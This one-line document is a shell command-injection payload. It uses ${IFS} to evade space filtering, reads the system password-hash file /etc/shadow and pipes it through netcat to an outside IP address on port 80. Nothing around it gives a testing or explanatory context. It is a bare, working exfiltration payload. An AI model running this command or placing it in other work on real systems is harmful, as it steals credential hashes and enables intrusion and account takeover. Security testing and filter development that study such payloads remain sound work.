cat${IFS}/etc/shadow${IFS}|${IFS}nc${IFS}198.51.100.5${IFS}80
